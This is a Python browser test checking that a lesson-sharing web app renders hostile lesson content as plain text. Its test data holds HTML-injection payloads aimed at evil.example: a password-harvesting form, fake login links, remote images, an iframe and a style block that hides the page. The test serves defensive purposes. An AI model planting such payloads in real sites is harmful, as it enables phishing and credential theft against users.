"""Hostile lesson links in Chromium (issue 11): a shared lesson whose title, summary and
notes hold a form posting elsewhere, a "log in" link and an image from another site, a
style sheet and bare URLs renders none of them as markup on /classroom (teacher and
student views) or /lessons; the page keeps its own look (the style did not apply)."""

from __future__ import annotations

import base64
import json
import zlib
from pathlib import Path
from typing import Any

import pytest
from browser_harness import exceptions, goto, url_for, wait_idle

pytestmark = pytest.mark.browser
SHOTS = Path(__file__).resolve().parents[1] / "artifacts"
EVIL = "evil.example"

HOSTILE = {
    "format": "rules-lab-lesson/1",
    "title": '[Official login](https://evil.example/x) <img src="https://evil.example/t.png">',
    "summary": ('Welcome. <form action="https://evil.example/f" method="post"><input name="pw">'
                '<button>Log in to continue</button></form> [Log in](https://evil.example/l) '
                '<a href="//evil.example/a">again</a> <img src="https://evil.example/p.png">'
                '![pic](https://evil.example/m.png) <iframe src="https://evil.example/i"></iframe>'
                '<style>body{display:none !important}/*evil.example*/</style> '
                'https://evil.example/bare www.evil.example me@evil.example'),
    "items": [{"quiz": "kachuful", "topics": ["K-9"], "seed": 7, "count": 1,
               "title": "![x](https://evil.example/q.png) https://evil.example/t",
               "note": "<b>https://evil.example/n</b> [note](https://evil.example/n)"}],
}
PACKED = "1." + base64.urlsafe_b64encode(zlib.compress(json.dumps(HOSTILE).encode(), 9)
                                         ).decode().rstrip("=")

#: What the page holds that came from the payload: forms, inputs outside Streamlit's own
#: widgets, images and links to other sites, frames, style sheets from the lesson.
FOREIGN_JS = """() => {
  const out = [];
  const here = location.origin;
  document.querySelectorAll('form').forEach(f => out.push('form ' + f.outerHTML.slice(0, 80)));
  document.querySelectorAll('iframe, object, embed').forEach(f => out.push(f.tagName + ' ' + (f.src || '')));
  document.querySelectorAll('[data-testid="stHtml"] input, [data-testid="stMarkdown"] input, '
      + '[data-testid="stHtml"] button, [data-testid="stMarkdown"] button')
    .forEach(i => out.push('input in content ' + i.outerHTML.slice(0, 80)));
  document.querySelectorAll('img').forEach(i => {
    if (i.src && !i.src.startsWith(here) && !i.src.startsWith('data:') && !i.src.startsWith('blob:'))
      out.push('img ' + i.src);
  });
  document.querySelectorAll('a[href]').forEach(a => {
    if (!a.href.startsWith(here) && !a.href.startsWith('blob:')) out.push('a ' + a.href);
  });
  document.querySelectorAll('style').forEach(s => {
    if (s.textContent.includes('evil.example')) out.push('style from the lesson');
  });
  if (getComputedStyle(document.body).display === 'none') out.push('body hidden by a style');
  return out;
}"""


def foreign(page: Any) -> list[str]:
    return [str(x) for x in page.evaluate(FOREIGN_JS)]


@pytest.mark.parametrize("view", [None, "student"])
def test_a_hostile_lesson_link_on_the_classroom_renders_no_foreign_markup(
        new_page: Any, site: str, view: str | None) -> None:
    page = new_page(viewport={"width": 1400, "height": 900})
    for step in (1, 2):  # the cover (title, summary) and the item slide (title, note)
        # (goto() waits for the first element to show; here that is the hidden style block)
        page.goto(url_for(site, "classroom", l=PACKED, step=step, view=view),
                  wait_until="domcontentloaded")
        page.locator("#cl-slide-title").wait_for(timeout=60_000)
        wait_idle(page, 60_000)
        assert exceptions(page) == []
        assert foreign(page) == []
        body = page.locator("[data-testid='stMain']").inner_text()
        if step == 1:
            # The lesson is shown (not refused): its words are there, as text.
            assert "Welcome." in body and "Official login" in body
            page.screenshot(path=str(SHOTS / f"hostile-classroom-{view or 'teacher'}.png"))
        elif view is None:
            # The note, shown as typed (an invisible word joiner keeps the URL from linking).
            assert "[note](https://evil.example/n)" in body.replace("\u2060", "")


def test_a_hostile_lesson_link_on_the_lessons_page_renders_no_foreign_markup(
        new_page: Any, site: str) -> None:
    for width in (1400, 390):
        page = new_page(viewport={"width": width, "height": 900})
        goto(page, site, "lessons", l=PACKED)
        assert exceptions(page) == []
        assert foreign(page) == []
        assert "Welcome." in page.locator("[data-testid='stMain']").inner_text()
        page.screenshot(path=str(SHOTS / f"hostile-lessons-{width}.png"), full_page=True)
